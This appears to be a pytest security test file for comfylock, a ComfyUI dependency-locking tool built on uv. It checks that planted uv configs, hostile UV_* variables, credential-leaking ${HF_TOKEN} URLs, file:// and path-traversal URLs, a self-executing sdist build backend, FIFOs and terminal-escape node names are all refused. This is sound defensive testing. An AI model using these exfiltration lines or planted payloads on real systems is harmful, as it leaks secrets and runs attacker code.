"""Issue 11, the input side: what a node's text may make uv do, every file read totally, identity and
freshness. Real uv on hand-written wheels.

The security tests run comfylock as a child process WITHOUT the suite's `UV_NO_CONFIG=1`: uv.toml files
planted in a parent of the temp folder, of the ComfyUI folder and of the working folder, a user config
under HOME/XDG_CONFIG_HOME, and hostile `UV_*` variables (see `hostile_env`). That isolation is what
hid the config hole in 0.1.0, so these tests must not lean on it.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from helpers import LocalIndex, run
from wheels import make_wheel

from comfylock import api
from comfylock.cli.main import main
from comfylock.environment import probecache
from comfylock.environment.probe import probe_target, remember
from comfylock.lockfile.lock import read_lock
from comfylock.resolve import uv as resolve
from comfylock.resolve import uvenv

POSIX = pytest.mark.skipif(os.name == "nt", reason="needs a POSIX file system")
LINUX_PROC = pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs /proc")


# --- helpers ---------------------------------------------------------------------------------------


def wheels(folder: Path, version: str, *names: str) -> Path:
    for name in names:
        make_wheel(folder, name, version)
    return folder


def tree(root: Path) -> dict[str, bytes]:
    """Every regular file under root and its bytes (the workspace lock file aside)."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink() and p.name != ".lock"
    }


def hostile_env(tmp: Path, evil: Path) -> tuple[dict[str, str], Path]:
    """(environment, working folder) as a careless or attacked machine has them: no UV_NO_CONFIG,
    uv.toml files with find-links to `evil` above the temp folder, in the working folder and in the
    user's config, and UV_* variables that would each change a resolution."""
    planted = f'[pip]\nfind-links = ["{evil.as_posix()}"]\nprerelease = "allow"\n'
    evil.mkdir(exist_ok=True)  # an empty one still proves the planted file is not read
    shared = tmp / "shared-tmp"  # stands in for a world-writable /tmp with a stranger's uv.toml in it
    (shared / "tmp").mkdir(parents=True, exist_ok=True)
    (shared / "uv.toml").write_text(planted)
    home = tmp / "home"
    for cfg in (home / ".config" / "uv", home / "xdg" / "uv"):
        cfg.mkdir(parents=True, exist_ok=True)
        (cfg / "uv.toml").write_text(planted)
    work = tmp / "work"
    work.mkdir(exist_ok=True)
    (work / "uv.toml").write_text(planted)
    (work / "pyproject.toml").write_text(f'[tool.uv.pip]\nfind-links = ["{evil.as_posix()}"]\n')
    (tmp / "override.txt").write_text("beta==6.6.6\n")
    (tmp / "constraint.txt").write_text("gamma>=6\n")
    (tmp / "config-file.toml").write_text(planted)
    env = {k: v for k, v in os.environ.items() if k != "UV_NO_CONFIG"}
    env.update(
        HOME=str(home),
        XDG_CONFIG_HOME=str(home / "xdg"),
        TMPDIR=str(shared / "tmp"),
        TMP=str(shared / "tmp"),
        TEMP=str(shared / "tmp"),
        UV_CONFIG_FILE=str(tmp / "config-file.toml"),
        UV_OVERRIDE=str(tmp / "override.txt"),
        UV_CONSTRAINT=str(tmp / "constraint.txt"),
        UV_PRERELEASE="allow",
        UV_INDEX_STRATEGY="unsafe-best-match",
        UV_RESOLUTION="lowest",
        UV_TORCH_BACKEND="cu124",
        UV_NO_BUILD_ISOLATION="1",
    )
    return env, work


def compile_args(root: Path, venv: Path, good: Path) -> list[str]:
    """`compile` of `root` into `venv` from the --find-links folder `good` alone, for comfylock()."""
    return ["compile", "--comfyui", str(root), "--python", str(venv), "--no-index", "--find-links", str(good)]


def comfylock(
    env: dict[str, str], cwd: Path, *args: str, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "comfylock", *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def one_line_refusal(done: subprocess.CompletedProcess[str], where: str) -> None:
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    errors = [ln for ln in lines if not ln.startswith("comfylock: warning")]
    assert len(errors) == 1 and re.search(where, errors[0].replace("\\", "/")), done.stderr


def cmdlines() -> list[bytes]:
    out = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                with open(f"/proc/{entry.name}/cmdline", "rb") as f:
                    out.append(f.read())
            except OSError:
                pass
    return out


# --- (c) uv's own configuration --------------------------------------------------------------------


def test_planted_uv_config_and_hostile_uv_variables_decide_nothing(tmp_path, venv, comfy):
    good = wheels(tmp_path / "good", "1.0", "gamma", "beta")
    evil = wheels(tmp_path / "evil", "6.6.6", "gamma", "beta")
    env, work = hostile_env(tmp_path, evil)
    root = comfy("gamma\nbeta\n")
    (root / "uv.toml").write_text(f'[pip]\nfind-links = ["{evil.as_posix()}"]\n')  # ComfyUI's folder too
    args = compile_args(root, venv, good)

    done = comfylock(env, work, *args)

    assert done.returncode == 0, done.stderr
    pins = {p.name: p.spec for p in read_lock(root / "comfylock.lock").pins}
    assert pins == {"beta": "beta==1.0", "gamma": "gamma==1.0"}
    for name in ("UV_CONSTRAINT", "UV_OVERRIDE", "UV_CONFIG_FILE", "UV_PRERELEASE", "UV_TORCH_BACKEND"):
        assert re.search(rf"warning: {name} is ignored", done.stdout), done.stdout  # one line each
    # Sync under the same environment installs exactly the lock.
    sync = comfylock(env, work, "sync", "--comfyui", str(root), "--python", str(venv))
    assert sync.returncode == 0, sync.stderr
    assert probe_target(venv).installed == {"beta": "1.0", "gamma": "1.0"}


def test_hostile_variable_cannot_make_the_next_compile_lie(tmp_path, venv, comfy):
    """0.1.0: UV_CONSTRAINT changed a result while the next compile called the other lock up to date."""
    good = wheels(tmp_path / "good", "1.0", "gamma")
    wheels(good, "2.0", "gamma")
    root = comfy("gamma\n")
    env, work = hostile_env(tmp_path, tmp_path / "nowhere")
    (tmp_path / "constraint.txt").write_text("gamma<2\n")
    args = compile_args(root, venv, good)
    assert comfylock(env, work, *args).returncode == 0
    assert read_lock(root / "comfylock.lock").by_name()["gamma"].spec == "gamma==2.0"
    del env["UV_CONSTRAINT"]
    again = comfylock(env, work, *args)
    assert again.returncode == 0 and "up to date" in again.stdout


def test_uv_environment_is_an_allow_list():
    from comfylock.resolve.uvenv import child_env, ignored

    user = {
        "PATH": "/bin",
        "HTTPS_PROXY": "http://proxy",
        "UV_CACHE_DIR": "/c",
        "UV_HTTP_TIMEOUT": "5",
        "UV_INDEX_MINE_PASSWORD": "pw",
        "UV_CONSTRAINT": "/c.txt",
        "UV_CONFIG_FILE": "/x.toml",
        "UV_EXTRA_INDEX_URL": "https://u:t@evil/simple",
        "UV_NO_CONFIG": "0",
    }
    env, args = child_env(user)
    assert env["UV_NO_CONFIG"] == "1" and args == []
    assert {k for k in env if k.startswith("UV_")} == {
        "UV_CACHE_DIR",
        "UV_HTTP_TIMEOUT",
        "UV_INDEX_MINE_PASSWORD",
        "UV_NO_CONFIG",
    }
    assert env["PATH"] == "/bin" and env["HTTPS_PROXY"] == "http://proxy"
    assert [w.split()[0] for w in ignored(user)] == ["UV_CONFIG_FILE", "UV_CONSTRAINT"]


def test_named_uv_index_is_locked_in_a_form_pip_accepts(tmp_path, venv, comfy, monkeypatch):
    folder = wheels(tmp_path / "private", "1.0", "gamma")
    index = LocalIndex(folder, ("alice", "s3cret"))
    try:
        root = comfy("gamma\n")
        monkeypatch.setenv("UV_INDEX", f"mine={index.url}")
        monkeypatch.setenv("UV_INDEX_MINE_USERNAME", "alice")
        monkeypatch.setenv("UV_INDEX_MINE_PASSWORD", "s3cret")
        monkeypatch.setenv("UV_DEFAULT_INDEX", (tmp_path / "empty").as_uri())
        (tmp_path / "empty").mkdir()
        assert main(["compile", "--comfyui", str(root), "--python", str(venv)]) == 0
        text = (root / "comfylock.lock").read_text()
        assert f"\n--extra-index-url {index.url}\n" in text and "mine=" not in text
        assert "gamma==1.0" in text
    finally:
        index.stop()


# --- (d) credentials never on uv's command line -------------------------------------------------------


@LINUX_PROC
@pytest.mark.parametrize("how", ["UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "--index-url", "config"])
def test_credentials_never_in_any_command_line(tmp_path, venv, comfy, how):
    """Scan every /proc/*/cmdline while compile and sync talk to a slow index that demands the
    password: the token must never be in one, and uv must have been seen running."""
    token = "tok-" + os.urandom(6).hex()
    folder = wheels(tmp_path / "private", "1.0", "gamma", "beta")
    index = LocalIndex(folder, ("alice", token), delay=0.4)
    try:
        root = comfy("gamma\nbeta\n")
        env, work = hostile_env(tmp_path, tmp_path / "nowhere")
        env["UV_CACHE_DIR"] = str(tmp_path / "cache")  # cold: every file comes from the slow index
        secret_url = index.with_auth("alice", token)
        extra: list[str] = []
        if how == "--index-url":
            extra = ["--index-url", secret_url]
            # The lock keeps no credentials; sync finds them where uv looks: netrc.
            netrc = Path(env["HOME"]) / ".netrc"
            netrc.write_text(f"machine 127.0.0.1 login alice password {token}\n")
            netrc.chmod(0o600)
        elif how == "config":
            config = root / "user" / "comfylock" / "config.toml"
            config.parent.mkdir(parents=True)
            config.write_text(f'[index]\nindex-url = "{secret_url}"\n')
        else:
            env[how] = secret_url
            env["UV_DEFAULT_INDEX" if how != "UV_INDEX_URL" else "UV_PYTHON_DOWNLOADS"] = (
                index.with_auth("alice", token) if how != "UV_INDEX_URL" else "never"
            )
        base = ["--comfyui", str(root), "--python", str(venv)]
        leaked: list[bytes] = []
        saw_uv = False
        for command in (["compile", *base, *extra], ["sync", *base]):
            child = subprocess.Popen(
                [sys.executable, "-m", "comfylock", *command],
                env=env,
                cwd=work,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            deadline = time.monotonic() + 120
            while child.poll() is None and time.monotonic() < deadline:
                for line in cmdlines():
                    if token.encode() in line and b"pytest" not in line:
                        leaked.append(line)
                    saw_uv = saw_uv or (b"\0pip\0" in line and str(tmp_path).encode() in line)
                time.sleep(0.01)
            out, err = child.communicate(timeout=10)
            assert child.returncode == 0, err
            assert token not in out + err
        assert saw_uv, "uv was never caught running: the scan proved nothing"
        assert not leaked, leaked[0].replace(b"\0", b" ")
        assert token not in (root / "comfylock.lock").read_text()
        assert probe_target(venv).installed == {"beta": "1.0", "gamma": "1.0"}
    finally:
        index.stop()


# --- (a) variable expansion and (b) URL schemes in node text ------------------------------------------


def test_node_text_never_expands_a_variable(tmp_path, venv, comfy):
    """A node line carrying ${HF_TOKEN} to a host: refused before uv runs, the host sees nothing."""
    hits: list[str] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            self.send_error(404)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        host = f"127.0.0.1:{server.server_address[1]}"
        good = wheels(tmp_path / "good", "1.0", "gamma")
        root = comfy(
            "gamma\n",
            {
                "Thief": {
                    "requirements.txt": f"gamma\nbeta @ http://{host}/beta-1.0-py3-none-any.whl?t=${{HF_TOKEN}}\n"
                }
            },
        )
        env, work = hostile_env(tmp_path, tmp_path / "nowhere")
        env["HF_TOKEN"] = "hf_SECRET"
        before = tree(root)
        done = comfylock(env, work, *compile_args(root, venv, good))
        one_line_refusal(done, r"custom_nodes/Thief/requirements\.txt:2: .*'\$' is not allowed")
        assert "hf_SECRET" not in done.stdout + done.stderr
        assert hits == [] and tree(root) == before
    finally:
        server.shutdown()
        server.server_close()


def evil_sdist(folder: Path, marker: Path) -> Path:
    """An sdist whose in-tree build backend writes `marker`: proof that something built it."""
    import io
    import tarfile

    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "evil-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "b"\n'
        'backend-path = ["."]\n[project]\nname = "evil"\nversion = "1.0"\ndynamic = ["dependencies"]\n',
        "evil-1.0/b.py": f"open({str(marker)!r}, 'w').write('built')\n"
        "def get_requires_for_build_wheel(c=None): return []\n",
        "evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    }
    path = folder / "evil-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


@POSIX
@pytest.mark.parametrize(
    "line",
    [
        "evil @ ftp://../../..${PWD}/custom_nodes/X/evil-1.0.tar.gz",
        "evil @ ftp://../../../{root}/custom_nodes/X/evil-1.0.tar.gz",
        "evil @ git+file://{root}/custom_nodes/X/repo",
        "evil @ https:///{root}/custom_nodes/X/evil-1.0.tar.gz",
    ],
)
def test_non_web_urls_in_node_files_are_refused_and_nothing_builds(tmp_path, venv, comfy, line):
    marker = tmp_path / "BUILT"
    good = wheels(tmp_path / "good", "1.0", "gamma")
    root = comfy("gamma\n", {"X": {"requirements.txt": "gamma\n"}})
    evil_sdist(root / "custom_nodes" / "X", marker)
    (root / "custom_nodes" / "X" / "requirements.txt").write_text(
        line.replace("{root}", root.as_posix().lstrip("/")) + "\n"
    )
    env, work = hostile_env(tmp_path, tmp_path / "nowhere")
    env["PWD"] = str(root)  # as in the report: compile run from the ComfyUI folder
    before = tree(root)
    done = comfylock(env, work, *compile_args(root, venv, good))
    one_line_refusal(done, r"custom_nodes/X/requirements\.txt:1: .*refused")
    assert not marker.exists() and tree(root) == before


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("pkg @ https://h.example/pkg-1.0.tar.gz?t=$TOKEN", r"'\$'"),
        ("pkg @ https://h.example/${TOKEN}/pkg-1.0.whl", r"'\$'"),
        ("pkg @ git+https://${GH_TOKEN}@github.example/o/r.git", r"'\$'"),
        ("pkg==${VERSION}", r"."),
        ("pkg ; python_version >= '${V}'", r"'\$'"),
        ("pkg @ ftp://h.example/pkg-1.0.tar.gz", r"scheme ftp"),
        ("pkg @ sftp://h.example/pkg-1.0.tar.gz", r"scheme sftp"),
        ("pkg @ hg+https://h.example/r", r"scheme hg\+https"),
        ("pkg @ svn+ssh://h.example/r", r"scheme svn\+ssh"),
        ("pkg @ git+file:///srv/r", r"scheme git\+file"),
        ("pkg @ git+git://h.example/r", r"scheme git\+git"),
        ("pkg @ data:text/plain,x", r"."),
        ("pkg @ https://h.example/download?id=1", r"archive"),
        ("https:///etc/pkg-1.0.tar.gz", r"no host|local"),
        ("pkg @ file:///etc/passwd", r"local"),
        ("ftp://h.example/pkg-1.0.tar.gz", r"scheme ftp"),
    ],
)
def test_collect_refuses_expansion_and_foreign_schemes(comfy, tmp_path, line, why):
    from comfylock._exceptions import InputError
    from comfylock.collect.gather import parse_requirements_file

    req = tmp_path / "requirements.txt"
    req.write_text(f"gamma\n{line}\n")
    with pytest.raises(InputError, match=why) as err:
        parse_requirements_file(req, node="N", folder=tmp_path)
    assert err.value.line == 2


@pytest.mark.parametrize(
    "line",
    [
        "pkg @ https://h.example/pkg-1.0-py3-none-any.whl",
        "pkg @ http://h.example/pkg-1.0.tar.gz#sha256=" + "0" * 64,
        "pkg @ git+https://github.example/o/r.git@v1",
        "pkg @ git+ssh://git@github.example/o/r.git",
        "pkg ; sys_platform == 'linux' and platform_release != 'a$b'",
        "pkg @ https://h.example/a%24b/pkg-1.0.zip",
    ],
)
def test_web_urls_and_literal_dollars_in_markers_still_accepted(tmp_path, line):
    from comfylock.collect.gather import parse_requirements_file

    req = tmp_path / "requirements.txt"
    req.write_text(line + "\n")
    reqs, _, _, _ = parse_requirements_file(req, node="N", folder=tmp_path)
    assert [r.name for r in reqs] == ["pkg"]


def test_allowed_index_option_with_a_variable_is_refused(tmp_path):
    from comfylock._exceptions import InputError
    from comfylock.collect.gather import parse_requirements_file

    req = tmp_path / "requirements.txt"
    req.write_text("--extra-index-url https://${TOKEN}@h.example/simple\ngamma\n")
    with pytest.raises(InputError, match=r"'\$' is not allowed") as err:
        parse_requirements_file(req, node="N", folder=tmp_path, allow_options={"--extra-index-url"})
    assert err.value.line == 1


def test_uv_does_not_expand_what_comfylock_hands_it(tmp_path, monkeypatch):
    """The guard's premise, checked on real uv: uv expands ${VAR} in a requirements file. If uv stops
    doing so this fails, and the refusal can be relaxed."""
    monkeypatch.setenv("CL_PROBE", "expanded")
    (tmp_path / "in.txt").write_text("pkg @ https://h.example/${CL_PROBE}/pkg-1.0.tar.gz\n")
    done = resolve.run_uv(["pip", "compile", "in.txt", "--offline", "--no-index"], cwd=tmp_path, check=False)
    assert "expanded" in done.stderr


# --- every file is read totally ------------------------------------------------------------------------


@POSIX
@pytest.mark.parametrize("swap", ["fifo", "dev-zero", "git-head-fifo"])
def test_quick_check_never_hangs_or_fills_memory(tmp_path, venv, comfy, swap):
    good = wheels(tmp_path / "good", "1.0", "gamma")
    root = comfy("gamma\n", {"N": {"requirements.txt": "gamma\n"}})
    node = root / "custom_nodes" / "N"
    env, work = hostile_env(tmp_path, tmp_path / "nowhere")
    args = compile_args(root, venv, good)
    assert comfylock(env, work, *args).returncode == 0
    assert comfylock(env, work, *args).returncode == 0  # the quick check's cache is in place
    if swap == "fifo":
        (node / "requirements.txt").unlink()
        os.mkfifo(node / "requirements.txt")
    elif swap == "dev-zero":
        (node / "requirements.txt").unlink()
        os.symlink("/dev/zero", node / "requirements.txt")
    else:
        (node / ".git").mkdir()
        os.mkfifo(node / ".git" / "HEAD")
    before = tree(root)
    done = comfylock(env, work, *args, timeout=60)  # 0.1.0: hung (FIFO) or MemoryError (/dev/zero)
    if swap == "git-head-fifo":  # a broken .git only loses the commit in the header
        assert done.returncode == 0, done.stderr
        return
    one_line_refusal(done, r"custom_nodes/N/requirements\.txt: ")
    assert tree(root) == before


def test_file_digest_refuses_what_the_reader_refuses(tmp_path):
    from comfylock import _fs

    (tmp_path / "big").write_bytes(b"x" * (_fs.MAX_BYTES + 1))
    assert _fs.file_digest(tmp_path / "big") is None
    assert _fs.file_digest(tmp_path) is None
    if os.name != "nt":
        os.mkfifo(tmp_path / "fifo")
        assert _fs.file_digest(tmp_path / "fifo") is None
        assert _fs.file_digest("/dev/zero") is None


def deep_cases(root: Path) -> dict[str, tuple[list[str], str]]:
    """name -> (command line after the command, regex of the one-line error), files written under root."""
    node = root / "custom_nodes" / "Deep"
    node.mkdir(parents=True)
    (node / "pyproject.toml").write_text(
        "[project]\nname = 'd'\ndependencies = " + "[" * 100_000 + "]" * 100_000
    )
    (root / "deep.json").write_text('{"pips": ' + "[" * 100_000 + "]" * 100_000 + "}")
    (root / "deep.yaml").write_text("custom_nodes:\n" + "".join("  " * i + "a:\n" for i in range(1, 3000)))
    return {
        "pyproject": (["compile"], r"custom_nodes/Deep/pyproject\.toml:1: .*nested too deeply"),
        "snapshot-json": (["import-snapshot", str(root / "deep.json")], r"deep\.json:1: .*nested too deeply"),
        "snapshot-yaml": (["import-snapshot", str(root / "deep.yaml")], r"deep\.yaml:1: .*nested too deeply"),
    }


@pytest.mark.parametrize("case", ["pyproject", "snapshot-json", "snapshot-yaml"])
def test_deep_nesting_is_a_one_line_error(tmp_path, venv, comfy, capsys, case):
    root = comfy("")
    args, where = deep_cases(root)[case]
    before = tree(root)
    capsys.readouterr()
    code = main([args[0], "--comfyui", str(root), "--python", str(venv), *args[1:]])
    err = capsys.readouterr().err.strip()
    assert code == 2 and "Traceback" not in err and len(err.splitlines()) == 1, err
    assert re.search(where, err.replace("\\", "/")), err
    assert tree(root) == before


def test_deep_config_toml_is_a_one_line_error(tmp_path, venv, comfy, capsys):
    root = comfy("")
    config = root / "user" / "comfylock" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("torch-index = " + "[" * 100_000 + "]" * 100_000)
    assert main(["compile", "--comfyui", str(root), "--python", str(venv)]) == 2
    assert "config.toml:1: nested too deeply" in capsys.readouterr().err


PYLOCK = """lock-version = "1.0"
created-by = "test"

[[packages]]
name = "gamma"
version = "1.0"
{package}

[tool.comfylock.packages.gamma]
{tool}
"""


@pytest.mark.parametrize(
    ("package", "tool", "where"),
    [
        ("wheels = 5", "", r"wheels must be an array"),
        ('wheels = ["x"]\nsdist = 5', "", None),  # odd but harmless: no wheel a sync could use
        ("", "requested-by = 5", r"requested-by must be an array"),
        ("", "needed-by = 5", r"needed-by must be an array"),
        ("", 'requested-by = [{node = 5, line = "x"}]', None),
        ("wheels = [{url = 5}]", "", None),
    ],
)
def test_pylock_with_wrong_types_is_refused_or_read(tmp_path, venv, comfy, capsys, package, tool, where):
    root = comfy("")
    lock = root / "pylock.team.toml"
    lock.write_text(PYLOCK.format(package=package, tool=tool))
    before = tree(root)
    capsys.readouterr()
    code = main(["sync", "--comfyui", str(root), "--python", str(venv), "--lock", str(lock), "--dry-run"])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    if where is None:
        assert code == 0, err
    else:
        assert code == 2 and re.search(where, err) and len(err.strip().splitlines()) == 1, err
    assert tree(root) == before


# --- add / remove keep the user's file ------------------------------------------------------------------

USER_FILE = """# my own packages
rich>=13  # pretty output
-r extra.txt

# numbers
numpy<2 ; python_version < "4"
"""


def test_add_and_remove_keep_comments_and_order(comfy, venv):
    root = comfy("")
    path = root / "user" / "comfylock" / "requirements.txt"
    path.parent.mkdir(parents=True)
    path.write_text(USER_FILE)
    (path.parent / "extra.txt").write_text("tqdm\n")
    ctx = api.Context.open(root, python=venv)

    assert api.add(ctx, ["pillow>=10", "rich>=14"]) == [
        "rich>=14",
        'numpy<2 ; python_version < "4"',
        "pillow>=10",
    ]
    assert path.read_text() == USER_FILE.replace("rich>=13  # pretty", "rich>=14  # pretty") + "pillow>=10\n"
    assert api.remove(ctx, ["RICH"]) == ['numpy<2 ; python_version < "4"', "pillow>=10"]
    assert path.read_text() == USER_FILE.replace("rich>=13  # pretty output\n", "") + "pillow>=10\n"


@pytest.mark.parametrize(
    ("spec", "code"),
    [
        ("rich  # note", 2),
        ("rich\nevil", 2),
        ("-e .", 2),
        ("evil @ file:///x", 2),
        ("x @ https://h/${T}.whl", 2),
    ],
)
def test_add_refuses_what_compile_would(comfy, venv, capsys, spec, code):
    root = comfy("")
    before = tree(root)
    assert main(["add", "--comfyui", str(root), "--python", str(venv), spec]) == code
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert tree(root) == before


def test_add_names_a_bad_line_already_in_the_file(comfy, venv, capsys):
    root = comfy("")
    path = root / "user" / "comfylock" / "requirements.txt"
    path.parent.mkdir(parents=True)
    path.write_text("rich\nnot a requirement !!\n")
    assert main(["add", "--comfyui", str(root), "--python", str(venv), "tqdm"]) == 2
    assert "requirements.txt:2: " in capsys.readouterr().err
    assert path.read_text() == "rich\nnot a requirement !!\n"


# --- identity and freshness ---------------------------------------------------------------------------


def git_checkout(folder: Path, sha: str) -> None:
    (folder / ".git" / "refs" / "heads").mkdir(parents=True, exist_ok=True)
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / ".git" / "refs" / "heads" / "main").write_text(sha + "\n")
    (folder / ".git" / "config").write_text(f'[remote "origin"]\n\turl = https://git.example/{folder.name}\n')


def test_nodes_named_core_and_user_never_collide_with_the_reserved_sources(tmp_path, comfy, venv):
    good = wheels(tmp_path / "good", "1.0", "gamma", "beta", "delta")
    root = comfy("gamma\n", {"core": {"requirements.txt": "beta\n"}, "user": {"requirements.txt": "delta\n"}})
    git_checkout(root, "a" * 40)
    git_checkout(root / "custom_nodes" / "core", "b" * 40)
    own = root / "user" / "comfylock" / "requirements.txt"
    own.parent.mkdir(parents=True)
    own.write_text("gamma\n")
    assert run(root, venv, good, "compile") == 0
    lock = read_lock(root / "comfylock.lock")
    assert lock.lists["node"] == (
        f"core requirements.txt git={'a' * 40}",
        f"custom_nodes/core requirements.txt git={'b' * 40}",
        "custom_nodes/user requirements.txt",
    )
    asked = {p.name: sorted(r.node for r in p.requested_by) for p in lock.pins}
    assert asked == {"beta": ["custom_nodes/core"], "delta": ["custom_nodes/user"], "gamma": ["core", "user"]}


def test_a_moved_node_commit_refreshes_the_header_without_resolving(
    tmp_path, comfy, venv, monkeypatch, capsys
):
    good = wheels(tmp_path / "good", "1.0", "gamma")
    root = comfy("gamma\n", {"N": {"requirements.txt": "gamma\n"}})
    git_checkout(root / "custom_nodes" / "N", "1" * 40)
    args = compile_args(root, venv, good)
    assert main(args) == 0
    git_checkout(root / "custom_nodes" / "N", "2" * 40)
    calls: list[object] = []
    monkeypatch.setattr(resolve, "compile", lambda *a, **k: calls.append(a))
    capsys.readouterr()
    assert main(args) == 0
    assert calls == [] and "node commits in the header refreshed" in capsys.readouterr().out
    lock = read_lock(root / "comfylock.lock")
    assert lock.intact and f"N requirements.txt git={'2' * 40}" in lock.lists["node"]
    snap = root / "snap.json"
    assert (
        main(
            [
                "export",
                "--comfyui",
                str(root),
                "--python",
                str(venv),
                "--format",
                "manager-snapshot",
                "-o",
                str(snap),
            ]
        )
        == 0
    )
    assert "2" * 40 in snap.read_text() and "1" * 40 not in snap.read_text()
    assert main(args) == 0 and "nothing changed" in capsys.readouterr().out  # and then it is quiet again


@POSIX
def test_a_lock_that_is_a_symlink_is_written_through(tmp_path, comfy, venv):
    good = wheels(tmp_path / "good", "1.0", "gamma", "beta")
    root = comfy("gamma\n")
    team = tmp_path / "team-repo" / "comfylock.lock"
    team.parent.mkdir()
    team.write_text("")
    (root / "comfylock.lock").symlink_to(team)
    args = compile_args(root, venv, good)
    assert main(args) == 0
    assert (root / "comfylock.lock").is_symlink() and "gamma==1.0" in team.read_text()
    (root / "requirements.txt").write_text("gamma\nbeta\n")
    assert main(args) == 0
    assert (root / "comfylock.lock").is_symlink() and "beta==1.0" in team.read_text()
    assert [p.name for p in team.parent.iterdir()] == ["comfylock.lock"]  # no temp file left behind


def test_probe_cache_sees_a_same_size_pth_edit_with_its_mtime_reset(venv, tmp_path):
    site = next(p for p in venv.parent.parent.rglob("site-packages") if p.is_dir())
    one, two = tmp_path / "aaaa", tmp_path / "bbbb"
    one.mkdir()
    two.mkdir()
    pth = site / "extra.pth"
    # An import line: what it adds to sys.path is seen only by running it, not by listing folders.
    pth.write_text(f"import sys; sys.path.append({str(one)!r})\n")
    then = time.time() - 60
    os.utime(pth, (then, then))
    os.utime(site, (then, then))
    venv_root = venv.parent.parent
    os.utime(venv_root / "pyvenv.cfg", (then, then))
    cache = tmp_path / "cache.json"
    time.sleep(probecache._RACY_NS / 1e9 + 0.1)  # the .pth's ctime must be old enough to be stored
    remember(probe_target(venv, cache))
    assert str(one) in probe_target(venv, cache).paths
    with open(pth, "r+") as f:  # same inode, same size, then the old mtime back
        f.write(f"import sys; sys.path.append({str(two)!r})\n")
    os.utime(pth, (then, then))
    assert str(two) in probe_target(venv, cache).paths


def test_terminal_escapes_in_node_names_are_printed_escaped(tmp_path, comfy, venv, capsys):
    good = wheels(tmp_path / "good", "1.0", "gamma", "beta")
    name = "Evil\x1b]0;owned\x07\x1b[2J\u202eNode"
    root = comfy("gamma\n", {name: {"requirements.txt": "beta\n"}})
    assert run(root, venv, good, "compile", "-v") == 0
    (root / "custom_nodes" / name / "requirements.txt").write_text("beta\nnot valid !!\n")
    assert run(root, venv, good, "compile") == 2
    out, err = capsys.readouterr()
    for text in (out, err):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", text), repr(text)
    assert "Evil\\x1b]0;owned\\x07\\x1b[2J\\u202eNode" in out and "Evil\\x1b" in err
    assert json.loads(json.dumps(out))  # printable as is


@POSIX
def test_uv_scratch_folder_avoids_world_writable_parents(tmp_path, monkeypatch):
    import stat

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # under /tmp: writable by everyone
    uvenv.private_base.cache_clear()
    try:
        assert uvenv.private_base() is None
        home_cache = Path.home() / ".cache"
        if any(p.exists() and p.stat().st_mode & stat.S_IWOTH for p in [home_cache, *home_cache.parents]):
            pytest.skip("this HOME lies under a folder everyone can write")
        monkeypatch.setenv("XDG_CACHE_HOME", str(home_cache))
        uvenv.private_base.cache_clear()
        base = uvenv.private_base()
        assert base == str(home_cache / "comfylock" / "tmp")
        assert stat.S_IMODE(os.stat(base).st_mode) & 0o077 == 0
        with uvenv.scratch() as scratch:
            assert Path(scratch).parent == Path(base)
            assert stat.S_IMODE(os.stat(scratch).st_mode) == 0o700  # private, as mkdtemp makes it
            (Path(scratch) / "sync.txt").write_text("x")
            (Path(scratch) / "left" / "by").mkdir(parents=True)  # what uv may leave: removed too
        assert not Path(scratch).exists()
        with uvenv.scratch() as a, uvenv.scratch() as b:
            assert a != b
    finally:
        uvenv.private_base.cache_clear()
